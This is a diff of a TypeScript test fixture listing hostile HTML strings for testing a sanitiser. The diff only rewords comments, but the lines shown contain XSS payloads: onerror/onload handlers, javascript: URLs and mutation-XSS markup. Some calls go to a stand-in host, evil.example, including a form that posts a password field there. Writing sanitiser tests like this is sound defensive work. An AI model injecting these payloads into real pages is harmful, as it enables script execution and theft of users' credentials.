@@ -1,6 +1,8 @@
 const evil = 'https://evil.example'
 
-/** HTML that wants to run, to load, to lead away or to cover the page; each by another way past a sanitiser. */
+/**
+ * HTML that tries to run code, load something, lead away or cover the page, each in a way that may pass a sanitiser.
+ */
 export const hostileHtml: readonly string[] = [
   // Styles
   '<p style="position:fixed;inset:0;background:red">cover</p>',
@@ -46,7 +48,7 @@ export const hostileHtml: readonly string[] = [
   `<a href="//evil.example/x">no scheme</a><a href="/\\evil.example/x">slashes</a><a ping="${evil}" href="/x">ping</a>`,
   `<form action="${evil}" id=f><input name=password><button formaction="${evil}">go</button></form>`,
   '<isindex action="javascript:hit()" type=image><button form=f formaction="javascript:hit()">go</button>',
-  // Pictures, films and sounds of foreign hosts
+  // Images, videos and audio from foreign hosts
   `<img src="${evil}/e.png" alt="a picture from elsewhere">`,
   `<img src="//evil.example/f.png"><img src="/\\evil.example/g.png"><img src="/\t/evil.example/h.png">`,
   `<img srcset="${evil}/h.png 1x, ${evil}/i.png 2x" src="/mark.svg">`,
@@ -56,13 +58,13 @@ export const hostileHtml: readonly string[] = [
   `<audio src="${evil}/a.mp3" autoplay onerror=hit()><track src="${evil}/a.vtt"></audio>`,
   `<img src="http://user:pass@127.0.0.1:4399/x.png"><img src="https://127.0.0.1.evil.example/o.png">`,
   `<input type=image src="${evil}/p.png" onerror=hit()>`,
-  // Other worlds
+  // SVG and MathML
   '<svg onload=hit()><circle r=9 style="fill:red" onclick=hit() /></svg>',
   `<svg><image href="${evil}/q.png" onerror=hit() /><use href="${evil}/r.svg#a" /><a href="javascript:hit()"><text>x</text></a></svg>`,
   '<svg><script>hit()</script><style>*{color:red}</style><animate attributeName=href values=javascript:hit() onbegin=hit() /></svg>',
   '<svg><foreignObject><p style="color:red" onclick=hit()>in</p><iframe src="javascript:hit()"></iframe></foreignObject></svg>',
   '<math><mtext style="color:red" onclick=hit()>x</mtext><maction actiontype=statusline xlink:href="javascript:hit()">y</maction></math>',
-  // What changes while it is parsed
+  // Markup that the parser restructures
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
   '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
